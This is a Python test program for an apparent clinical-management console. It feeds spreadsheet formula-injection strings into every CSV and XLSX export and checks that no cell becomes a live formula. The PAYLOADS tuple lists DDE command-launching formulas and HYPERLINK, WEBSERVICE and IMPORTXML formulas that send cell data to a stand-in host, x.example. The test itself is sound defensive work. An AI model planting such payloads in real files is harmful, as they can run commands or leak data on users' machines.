"""Formula injections through every export: no cell of a workbook or CSV is a formula."""

from __future__ import annotations

import csv
import pkgutil
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from itertools import product
from pathlib import Path

import cdconsole.exporting
from cdconsole.domain.calendar import Month, Quarter
from cdconsole.domain.clinician import Clinician, Grade
from cdconsole.domain.data_quality import Aspect, FixItem
from cdconsole.domain.definition import Definition, DefinitionVersion
from cdconsole.domain.extract import ExtractKind
from cdconsole.domain.framework import Charter, ChecklistItem, Framework, Stage, SuccessCriticalOutcome
from cdconsole.domain.frequency import Frequency
from cdconsole.domain.goal_follow_up import Held, SustainCheck
from cdconsole.domain.governance import GovernancePack, MeasureValues
from cdconsole.domain.held import HeldCount, HeldPart, HeldTable, PersonPreview, TextToCheck
from cdconsole.domain.identity import ClinicianId, GoalId, JobPlanId, ReviewId, WorkStreamId
from cdconsole.domain.job_plan import JobPlan, OnCall, PaCategory, ProgrammedActivity
from cdconsole.domain.job_plan_terms import Objective
from cdconsole.domain.lesson import Lesson
from cdconsole.domain.measure import MeasureId, MeasureRow, MonthlyValue
from cdconsole.domain.retention import PastPeriod
from cdconsole.domain.review import Goal, GoalProgress, NoteKind, Recognition, ReviewNote
from cdconsole.domain.work_stream import SetAside, WorkStream
from cdconsole.exporting.csv_file import quoted, write_csv, write_csv_lines
from cdconsole.exporting.definitions_csv import write_definitions
from cdconsole.exporting.disclosure import measure_sheet
from cdconsole.exporting.extract_files import goals_file, job_plan_file, review_file
from cdconsole.exporting.fixes_csv import write_fixes
from cdconsole.exporting.framework_csv import write_board, write_outcomes
from cdconsole.exporting.goals_csv import write_goals
from cdconsole.exporting.governance_workbook import write_governance_workbook
from cdconsole.exporting.job_plans_csv import write_job_plans
from cdconsole.exporting.lessons_csv import write_lessons
from cdconsole.exporting.measures_csv import write_measures
from cdconsole.exporting.person_files import write_person_files
from cdconsole.exporting.recognitions_csv import write_recognitions
from cdconsole.exporting.retention_csv import write_retention
from cdconsole.services.charts import spc_chart
from cdconsole.services.definitions import BY_ID
from reliability.program import Counts, Outcome, Program, Tally

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "=-", "+=", "@=")
PAYLOADS = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"look")', "2+5+cmd|'/C notepad'!A1"),
    *('WEBSERVICE("http://x.example/"&A1)', 'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://x.example","//a")'),
    *('A1,"=1+1"', 'x";=1+1;"y'),
)
INJECTIONS = tuple(start + payload for start, payload in product(STARTS, PAYLOADS))
AT = datetime(2026, 11, 23, 10, 42, tzinfo=UTC)
LIVE = re.compile(r"[=+\-@\t\r\n]")
CARRIES_TEXT = {
    *("csv_file", "definitions_csv", "extract_files", "fixes_csv", "governance_workbook", "job_plans_csv"),
    *("measures_csv", "person_files", "retention_csv", "framework_csv", "goals_csv", "lessons_csv", "recognitions_csv"),
}
NO_WRITER = {"disclosure", "sealed_extract"}  # the second carries on what extract_files wrote


def run(count: int, scratch: Path) -> Outcome:
    """Put so many strings in every text of every export."""
    tally = Tally("live formulas", "exports not tried")
    modules = {module.name for module in pkgutil.iter_modules(cdconsole.exporting.__path__)}
    for name in sorted(modules - CARRIES_TEXT - NO_WRITER):
        tally.add("exports not tried", f"exporting/{name}.py is not known to this program")
    cells = 0
    for text in INJECTIONS[:count]:
        for path in _exports(text, scratch):
            read = _csv_cells(path) if path.suffix == ".csv" else _workbook_cells(path)
            cells += len(read)
            live = [cell for cell in read if cell.startswith("<f") or (path.suffix == ".csv" and _is_live(cell))]
            tally.add("live formulas", path.name, len(live), example=repr(text))
    return tally.outcome(f"{min(count, len(INJECTIONS))} strings in {cells:,} cells of {len(CARRIES_TEXT)} exports")


def _exports(text: str, scratch: Path) -> tuple[Path, ...]:
    names = ("any.csv", "lines.csv", "measures.csv", "fixes.csv", "governance.xlsx")
    any_csv, lines, measures, fixes, governance = (scratch / name for name in names)
    write_csv(any_csv, ("row", "reason"), [("1", text), (text, text)])
    write_csv_lines(lines, ("row", "series"), [f"1,{quoted(text)}"])
    values = tuple(MonthlyValue(Month(2026, 7) + place, 40.0, 100.0, 0.4) for place in range(3))
    write_measures(measures, [MeasureRow(MeasureId.BEFORE_MIDDAY, text, value) for value in values])
    write_fixes(fixes, [FixItem(text, ExtractKind.SPELLS, Aspect.IMPOSSIBLE, text, text, text)])
    measure = BY_ID[MeasureId.BEFORE_MIDDAY]
    quarter = Quarter(2026, 3)
    sheet = measure_sheet(MeasureValues(measure, spc_chart(measure, values), text, text, 0.4, values), quarter.period)
    pack = GovernancePack(text, text, quarter, text, text, AT, (sheet,), (text, text))
    write_governance_workbook(pack, governance, lambda _sheet: None)
    theirs = _job_plans(text, scratch), _definitions(text, scratch), *_extract(text, scratch), *_held(text, scratch)
    theirs = *theirs, *_framework(text, scratch), *_of_reviews(text, scratch)
    return any_csv, lines, measures, fixes, governance, *theirs


def _definitions(text: str, scratch: Path) -> Path:
    path = scratch / "definitions.csv"
    words = dict.fromkeys(("title", "question", "numerator", "weaknesses", "target_origin", "owner", "outcome"), text)
    counting = replace(BY_ID[MeasureId.SPELLS].counting, specialties=(text,), wards_left_out=(text,), count_of=text)
    measure = replace(BY_ID[MeasureId.SPELLS], **words, counting=counting)
    write_definitions(path, [Definition((DefinitionVersion(measure, reason=text, person=text),))])
    return path


def _job_plans(text: str, scratch: Path) -> Path:
    path = scratch / "job-plans.csv"
    activity = ProgrammedActivity(text, PaCategory.DCC, 1.0, location=text, frequency=Frequency(words=text))
    plan = JobPlan(JobPlanId("p"), ClinicianId("c"), 1, date(2026, 4, 1), (activity,), objectives=(Objective(text),))
    write_job_plans(path, [(Clinician(ClinicianId("c"), text, Grade.OTHER, interests=(text,)), plan)])
    return path


def _extract(text: str, scratch: Path) -> list[Path]:
    """Write the files of a sealed extract that carry words of people."""
    note = ReviewNote(NoteKind.CLINICIAN_VIEW, text, text, AT, 1)
    goal = Goal(GoalId("g"), ClinicianId("c"), ReviewId("r"), text, text, None, text, None, text, None, text, AT.date())
    activity = ProgrammedActivity(text, PaCategory.DCC, 1.0, location=text, frequency=Frequency(words=text))
    plan = JobPlan(JobPlanId("j"), ClinicianId("c"), 1, AT.date(), (activity,), OnCall(8, "A"))
    files = (review_file([(text, text, [note])]), goals_file([goal]), job_plan_file(plan))
    for file in files:
        (scratch / file.name).write_text(file.text, encoding="utf-8", newline="")
    return [scratch / file.name for file in files]


def _held(text: str, scratch: Path) -> list[Path]:
    """Write everything held about one person, and what is past its period."""
    person = Clinician(ClinicianId("c"), text, Grade.OTHER)
    count = HeldCount(HeldPart.REVIEWS, "Texts", 1, has_words=True)
    preview = PersonPreview(person, (count,), (TextToCheck(text, 1, text, text),), ())
    write_person_files(scratch / "person.zip", preview, text, [HeldTable(count, ("row", "text"), (("1", text),))])
    with zipfile.ZipFile(scratch / "person.zip") as files:
        inside = [Path(files.extract(name, scratch)) for name in files.namelist() if name.endswith(".csv")]
    past = PastPeriod(ClinicianId("c"), text, None, HeldPart.REVIEWS, text, 1, None, text, text)
    write_retention(scratch / "retention.csv", [past])
    return [*inside, scratch / "retention.csv"]


def _framework(text: str, scratch: Path) -> list[Path]:
    """Write a work stream's outcomes and its stage board."""
    outcomes, board = scratch / "outcomes.csv", scratch / "board.csv"
    aside = SetAside(text, text, AT)
    outcome = SuccessCriticalOutcome(
        text, text, text, text, None, (MeasureId.SPELLS,), direction=text, stream=WorkStreamId("w"), parked=aside
    )
    item = ChecklistItem("1.1", text, text, AT, text)
    stage = Stage(1, text, text, text, (item,), (replace(item, key="1.2"),))
    framework = Framework(WorkStream(WorkStreamId("w"), text), (stage,), Charter(), (outcome,))
    write_outcomes(outcomes, [framework], {MeasureId.SPELLS: text})
    write_board(board, [framework])
    return [outcomes, board]


def _of_reviews(text: str, scratch: Path) -> list[Path]:
    """Write goals, thank-yous and lessons."""
    goals, thanks, lessons = scratch / "goals.csv", scratch / "thanks.csv", scratch / "lessons.csv"
    day = AT.date()
    check = SustainCheck("s", day, day, held=Held.HELD, note=text)
    goal = Goal(
        *(GoalId("g"), ClinicianId("c"), ReviewId("r"), text, text, MeasureId.SPELLS, "", 1.0, text, None, text, day),
        outcome=text,
    )
    write_goals(goals, [GoalProgress(goal, text, None, text, day, check=check)])
    write_recognitions(thanks, [Recognition("t", ClinicianId("c"), text, text, text, AT, measured=text)])
    lesson = Lesson("l", text, text, text, text, work_stream=text, at=AT, is_retired=True, reason=text)
    write_lessons(lessons, [(lesson, text)])
    return [goals, thanks, lessons]


def _is_live(cell: str) -> bool:
    if LIVE.match(cell) is None:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def _workbook_cells(path: Path) -> list[str]:
    """Return each cell's content as stored: a formula is an element ``f``, a text never is one, whatever it says."""
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    return [inside for sheet in sheets for inside in re.findall(r"<c [^>]*>(.*?)</c>", sheet, re.DOTALL)]


PROGRAM = Program("formula injections through every export, xlsx and csv: none is live", Counts(100, 100, 100), run)
